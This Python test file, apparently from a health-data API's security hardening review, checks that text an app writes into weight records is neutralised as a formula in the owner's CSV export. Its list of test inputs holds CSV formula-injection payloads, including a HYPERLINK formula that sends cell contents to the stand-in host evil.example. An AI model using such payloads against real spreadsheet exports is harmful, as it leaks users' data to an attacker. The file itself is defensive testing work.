"""CSV formula injection (hardening review, item 3): what an app writes in a text field cannot become
a formula in the holder's spreadsheet."""

from __future__ import annotations

import csv
import io

import httpx

from tests.helpers.people import MakeAppToken, Person
from tests.helpers.vitals import VITALS, weight

ATTACKS = ['=HYPERLINK("https://evil.example/?d="&A3&C3,"Voir")', "=1+1", "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\rx"]


async def test_text_an_app_wrote_is_inert_in_the_holders_csv(
    client: httpx.AsyncClient, person: Person, make_app_token: MakeAppToken
) -> None:
    app = await make_app_token(person, ["vitals.body_weight:write"])
    batch = [
        weight(70 + n, minutes_ago=10 + n, note=attack, device={"manufacturer": attack, "model": attack})
        for n, attack in enumerate(ATTACKS)
    ]
    stored = await client.post(VITALS, json={"measurements": batch}, headers=app.headers)
    assert stored.status_code == 201, stored.text
    exported = await client.get(VITALS, headers={**person.headers, "Accept": "text/csv"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for column in ("note", "deviceManufacturer", "deviceModel"):
            assert row[column].startswith("'"), (column, row[column])
            assert row[column][1:] in ATTACKS
    # The JSON answer keeps what was written, untouched: only the spreadsheet view is neutralised.
    notes = {item["note"] for item in (await client.get(VITALS, headers=person.headers)).json()["items"]}
    assert notes == set(ATTACKS)
    # Numbers stay numbers (a negative value would be written as such; none here is text).
    assert all(float(row["value"]) >= 70 for row in rows)
